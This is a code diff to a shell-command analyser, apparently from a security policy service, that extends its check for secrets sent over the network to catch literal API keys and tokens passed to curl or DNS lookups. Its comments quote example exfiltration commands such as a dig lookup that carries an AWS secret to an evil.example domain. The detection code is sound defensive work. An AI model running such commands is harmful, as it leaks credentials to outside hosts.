@@ -942,6 +942,9 @@ class ShellAnalyser:
         self.under_sudo = 0
         self.script = ""
         """The text of the latest top-level ``analyse`` call (the whole script), for rules that need context."""
+        self.secret_finder: Callable[[str], list[tuple[str, str]]] | None = None
+        """Finds literal secrets (API keys, private keys) in a text; set by the caller
+        (:func:`service.policy.actions.analyse_action`), so a key written into a ``curl -d`` counts as sent."""
         self.file_hook: Callable[[ShellAnalyser, str, str, bool], None] | None = None
         """Called with each file this command writes whose text is known (path, text, whether it is appended): the
         caller judges what the file will run (:func:`service.policy.actions.analyse_action` sets it)."""
@@ -2125,7 +2128,12 @@ class ShellAnalyser:
         _tamper_and_exposure_rules(self, cmd, name, args)
         # generic: secret-looking variables handed to network commands (a name looked up is sent to the DNS:
         # dig $AWS_SECRET_ACCESS_KEY.evil.example carries the secret to that domain's name server)
-        if (name in NET_SENDERS or name in _DNS_LOOKUPS) and any(w.tainted for w in cmd.words[1:]):
+        literal = (
+            self.secret_finder is not None
+            and (name in NET_SENDERS or name in _DNS_LOOKUPS)
+            and any(self.secret_finder(x) for x in args[:64] if len(x) >= 16)
+        )  # curl -d "AWS_SECRET_ACCESS_KEY=…", -H "Authorization: Bearer ghp_…", dig AKIA….evil.example
+        if (name in NET_SENDERS or name in _DNS_LOOKUPS) and (literal or any(w.tainted for w in cmd.words[1:])):
             hosts = _urls_hosts(args)
             if not hosts or not all(host_allowed(h, self.policy.allowed_hosts) for h in hosts):
                 self.emit(
